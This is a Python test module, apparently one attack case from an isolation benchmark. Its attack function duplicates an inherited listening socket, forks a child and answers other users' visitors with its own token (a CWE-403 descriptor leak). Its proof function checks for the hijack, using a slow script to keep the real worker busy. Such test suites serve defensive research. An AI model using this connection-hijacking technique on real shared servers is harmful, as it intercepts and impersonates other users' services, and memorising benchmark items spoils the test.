"""Accept the server's next client on an inherited listening socket."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PRECEDENT = "CWE-403: a descriptor that a program inherits"
ONE_STEP = True
EVIDENCE = "the neighbour's visitor was answered by the attacker"


def attack(given: Given) -> object:
    import os
    import socket

    number = given.sockets(listening=True)[0]
    listener = socket.socket(fileno=os.dup(number))
    listener.setblocking(True)
    if os.fork() == 0:
        for _ in range(4):
            client, _ = listener.accept()
            client.recv(4096)
            client.sendall(b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n" + given.token.encode())
            client.shutdown(socket.SHUT_RDWR)
        os._exit(0)
    listener.close()
    return f"a child of the script accepts at descriptor {number}"


def proof(scene: Scene) -> str | None:
    for _ in range(8):
        if scene.token.encode() in scene.visit().raw:
            return EVIDENCE
    if not any(b"isobench-attack done" in reply.raw for reply in scene.replies()):
        return None
    # The worker may have been faster each time: so it is asked for something that keeps it busy.
    scene.put(
        "slow.py",
        "import time\ntime.sleep(0.5)\nprint('Content-Type: text/plain\\n\\nslow')\n",
    )
    with ThreadPoolExecutor(1) as executor:
        kept_busy = executor.submit(scene.visit, "slow.py")
        while not kept_busy.done():
            if scene.token.encode() in scene.visit().raw:
                return EVIDENCE
        return EVIDENCE if scene.token.encode() in kept_busy.result().raw else None
